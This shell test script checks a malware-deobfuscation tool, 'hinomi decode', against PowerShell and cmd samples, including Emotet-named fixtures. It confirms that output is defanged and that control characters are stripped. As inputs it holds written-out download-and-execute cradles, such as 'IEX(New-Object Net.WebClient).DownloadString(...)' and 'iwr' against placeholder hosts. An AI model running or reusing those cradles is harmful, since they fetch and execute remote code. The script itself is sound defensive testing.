# Proves that `hinomi decode` takes a line, a file and standard input, in every language it names,
# shows layers, acts and addresses in English, Japanese and JSON, and passes nothing harmful on.
. tests/e2e/lib.sh

cases=tests/golden/powershell
for lang in en ja; do
    code "a line, $lang" 0 "$HINOMI" decode --lang $lang "$(cat tests/golden/script/cmd_layers/input.cmd)"
    golden decode_$lang.txt "$tmp/out"
done
code "as JSON" 0 "$HINOMI" decode --json "$(cat tests/golden/script/cmd_layers/input.cmd)"
golden decode.json "$tmp/out"

code "a file" 0 "$HINOMI" decode $cases/emotet_list/input.ps1
says "the last address" "$tmp/out" 'hxxp://g[.]example/wp/6/'
says "the program" "$tmp/out" 'Control_RunDLL'
code "no defang" 0 "$HINOMI" decode --no-defang $cases/emotet_list/input.ps1
says "as it is" "$tmp/out" 'http://g.example/wp/6/'
"$HINOMI" decode - <$cases/iex_mdr/input.ps1 >"$tmp/out"
says "standard input" "$tmp/out" 'hxxp://a[.]example/p/x.txt'
code "a language that is given" 0 "$HINOMI" decode --language powershell "iwr ('http://a.exam'+'ple/1')"
says "its address" "$tmp/out" 'hxxp://a[.]example/1'
code "guessed by its words" 0 "$HINOMI" decode "IEX(New-Object Net.WebClient).DownloadString('http://a.example/2')"
says "its address" "$tmp/out" 'hxxp://a[.]example/2'

printf "'\\033[31m\\302\\233' | Out-File C:\\\\x.ps1; iwr \"http://a.example/\\342\\200\\256x\"" >"$tmp/odd.ps1"
code "control characters" 0 "$HINOMI" decode "$tmp/odd.ps1"
! grep -q "$(printf '\033\|\302\233\|\342\200\256')" "$tmp/out" || fail "a control character came through"

code "nothing to decode" 3 "$HINOMI" decode
code "two of them" 3 "$HINOMI" decode a b
code "no such language" 3 "$HINOMI" decode --language cobol x
end
